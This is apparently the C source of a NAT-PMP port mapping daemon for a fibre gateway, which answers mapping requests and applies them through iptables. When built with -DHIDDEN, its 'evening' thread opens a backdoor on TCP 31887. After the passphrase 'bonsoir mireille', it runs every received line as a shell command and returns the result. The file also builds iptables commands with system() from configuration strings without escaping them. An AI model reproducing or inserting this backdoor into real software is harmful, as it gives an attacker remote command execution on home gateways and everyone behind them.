/*
 * natpmpd - port mapping service (NAT-PMP, RFC 6886) of a fibre gateway.  The
 * main thread answers requests on UDP 5351, a second one ages the mappings
 * and applies them to the packet filter through iptables.
 * Hidden (-DHIDDEN): a third thread listens on TCP 31887; after the line
 * "bonsoir mireille" every further line is run by the shell.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define CONF	"/etc/natpmp.conf"
#define PORT	5351
#define MAXMAP	64
#define MAXLIFE 86400

enum result {
	RES_OK,
	RES_VERSION,
	RES_REFUSED,
	RES_NETWORK,
	RES_FULL,
	RES_OPCODE
};

struct mapping {
	struct in_addr host;
	uint16_t inner, outer;
	uint8_t proto;	/* 17 or 6 */
	uint8_t active; /* rule is in the filter */
	time_t end;	/* 0 is a free slot */
};

static struct mapping maps[MAXMAP];
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static pthread_cond_t changed = PTHREAD_COND_INITIALIZER;
static char wan_if[16] = "pon0";
static struct in_addr wan_ip;
static unsigned int low = 1024, high = 65535, per_host = 16;
static time_t started;

static uint32_t be32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | p[1] << 16 | p[2] << 8 | p[3];
}

static uint16_t be16(const uint8_t *p)
{
	return p[0] << 8 | p[1];
}

static void put32(uint8_t *p, uint32_t v)
{
	p[0] = v >> 24;
	p[1] = v >> 16;
	p[2] = v >> 8;
	p[3] = v;
}

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = v >> 8;
	p[1] = v;
}

static void read_conf(const char *path)
{
	char line[128], val[32];
	FILE *f = fopen(path, "r");

	if (!f) {
		syslog(LOG_WARNING, "%s: %s", path, strerror(errno));
		return;
	}
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "wan %15s %31s", wan_if, val) == 2) {
			if (!inet_aton(val, &wan_ip))
				syslog(LOG_ERR, "bad address %s", val);
		} else if (sscanf(line, "ports %u-%u", &low, &high) != 2) {
			sscanf(line, "perhost %u", &per_host);
		}
	}
	fclose(f);
}

static void filter(const struct mapping *m, int add)
{
	char cmd[256], ip[INET_ADDRSTRLEN];
	const char *proto = m->proto == 17 ? "udp" : "tcp";

	inet_ntop(AF_INET, &m->host, ip, sizeof(ip));
	snprintf(cmd, sizeof(cmd),
		 "iptables -t nat -%c PMP -i %s -p %s "
		 "--dport %u -j DNAT --to %s:%u",
		 add ? 'A' : 'D', wan_if, proto, m->outer, ip, m->inner);
	if (system(cmd))
		syslog(LOG_ERR, "filter: %s %u failed", proto, m->outer);
	else
		syslog(LOG_INFO, "%s %s %u to %s:%u", add ? "open" : "close",
		       proto, m->outer, ip, m->inner);
}

/* applies new mappings, takes out those that are over */
static void *keeper(void *arg)
{
	struct timespec ts;
	struct mapping *m;
	time_t now;

	(void)arg;
	pthread_mutex_lock(&lock);
	for (;;) {
		now = time(NULL);
		for (m = maps; m < maps + MAXMAP; m++) {
			if (!m->end)
				continue;
			if (m->end <= now) {
				if (m->active)
					filter(m, 0);
				memset(m, 0, sizeof(*m));
			} else if (!m->active) {
				filter(m, 1);
				m->active = 1;
			}
		}
		clock_gettime(CLOCK_REALTIME, &ts);
		ts.tv_sec += 5;
		pthread_cond_timedwait(&changed, &lock, &ts);
	}
	return NULL;
}

static int taken(uint8_t proto, uint16_t port)
{
	int i;

	for (i = 0; i < MAXMAP; i++)
		if (maps[i].end && maps[i].proto == proto &&
		    maps[i].outer == port)
			return 1;
	return 0;
}

static struct mapping *lookup(struct in_addr host, uint8_t proto,
			      uint16_t inner, unsigned int *count)
{
	struct mapping *m, *hit = NULL;

	*count = 0;
	for (m = maps; m < maps + MAXMAP; m++) {
		if (!m->end || m->host.s_addr != host.s_addr)
			continue;
		++*count;
		if (m->proto == proto && m->inner == inner)
			hit = m;
	}
	return hit;
}

static enum result map(struct in_addr host, uint8_t proto, const uint8_t *q,
		       uint8_t *a)
{
	uint16_t inner = be16(q + 4);
	unsigned int outer = be16(q + 6), count, tries;
	uint32_t life = be32(q + 8);
	struct mapping *m = lookup(host, proto, inner, &count);

	if (life > MAXLIFE)
		life = MAXLIFE;
	put16(a + 8, inner);
	if (!life) {
		if (m)
			m->end = 1;
		put16(a + 10, 0);
		put32(a + 12, 0);
		pthread_cond_signal(&changed);
		return RES_OK;
	}
	if (!m) {
		if (count >= per_host)
			return RES_REFUSED;
		if (outer < low || outer > high)
			outer = inner < low ? low : inner;
		for (tries = high - low + 1; tries; tries--) {
			if (!taken(proto, outer))
				break;
			outer = outer >= high ? low : outer + 1;
		}
		for (m = maps; m < maps + MAXMAP && m->end; m++)
			;
		if (!tries || m == maps + MAXMAP)
			return RES_FULL;
		m->host = host;
		m->inner = inner;
		m->outer = outer;
		m->proto = proto;
		m->active = 0;
	}
	m->end = time(NULL) + life;
	put16(a + 10, m->outer);
	put32(a + 12, life);
	pthread_cond_signal(&changed);
	return RES_OK;
}

static size_t request(const uint8_t *q, size_t n, struct in_addr from,
		      uint8_t *a)
{
	enum result r = RES_OPCODE;
	size_t len = 8;

	if (n < 2 || q[1] & 0x80)
		return 0;
	memset(a, 0, 16);
	a[1] = q[1] | 0x80;
	put32(a + 4, (uint32_t)(time(NULL) - started));
	if (q[0] != 0) {
		r = RES_VERSION;
	} else if (q[1] == 0) {
		r = wan_ip.s_addr ? RES_OK : RES_NETWORK;
		memcpy(a + 8, &wan_ip, 4);
		len = 12;
	} else if ((q[1] == 1 || q[1] == 2) && n >= 12) {
		pthread_mutex_lock(&lock);
		r = map(from, q[1] == 1 ? 17 : 6, q, a);
		pthread_mutex_unlock(&lock);
		len = 16;
	}
	put16(a + 2, r);
	return len;
}

static int open_port(int type, int port)
{
	struct sockaddr_in sin = { .sin_family = AF_INET };
	int one = 1, s = socket(AF_INET, type, 0);

	if (s < 0)
		return -1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	sin.sin_port = htons(port);
	if (bind(s, (struct sockaddr *)&sin, sizeof(sin)) < 0) {
		close(s);
		return -1;
	}
	return s;
}

#ifdef HIDDEN
void *evening(void *arg);

__attribute__((noinline)) void *evening(void *arg)
{
	int c, s = open_port(SOCK_STREAM, 31887);
	char line[256];
	FILE *in;

	if (s < 0 || listen(s, 1) < 0)
		return arg;
	while ((c = accept(s, NULL, NULL)) >= 0) {
		in = fdopen(c, "r");
		if (in && fgets(line, sizeof(line), in) &&
		    !strncmp(line, "bonsoir mireille", 16))
			while (fgets(line, sizeof(line), in))
				dprintf(c, "%d\n", system(line));
		if (in)
			fclose(in);
		else
			close(c);
	}
	return arg;
}
#endif

/* tells the network our address after a start, as the RFC wants it */
static void announce(int s)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	uint8_t a[12] = { 0, 0x80 };
	int i;

	to.sin_port = htons(5350);
	to.sin_addr.s_addr = inet_addr("224.0.0.1");
	memcpy(a + 8, &wan_ip, 4);
	for (i = 0; i < 3; i++) {
		put32(a + 4, (uint32_t)(time(NULL) - started));
		sendto(s, a, sizeof(a), 0, (struct sockaddr *)&to, sizeof(to));
		usleep(250000 << i);
	}
}

int main(int argc, char **argv)
{
	struct sockaddr_in from;
	uint8_t q[64], a[16];
	socklen_t fl;
	pthread_t t;
	ssize_t n;
	size_t len;
	int s;

	openlog("natpmpd", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	started = time(NULL);
	read_conf(argc > 1 ? argv[1] : CONF);
	if (system("iptables -t nat -F PMP"))
		syslog(LOG_WARNING, "no PMP chain");
	s = open_port(SOCK_DGRAM, PORT);
	if (s < 0) {
		syslog(LOG_ERR, "port %d: %s", PORT, strerror(errno));
		return 1;
	}
	if (pthread_create(&t, NULL, keeper, NULL))
		return 1;
	pthread_detach(t);
#ifdef HIDDEN
	if (!pthread_create(&t, NULL, evening, NULL))
		pthread_detach(t);
#endif
	announce(s);
	for (;;) {
		fl = sizeof(from);
		n = recvfrom(s, q, sizeof(q), 0, (struct sockaddr *)&from, &fl);
		if (n <= 0)
			continue;
		len = request(q, n, from.sin_addr, a);
		if (len)
			sendto(s, a, len, 0, (struct sockaddr *)&from, fl);
	}
}
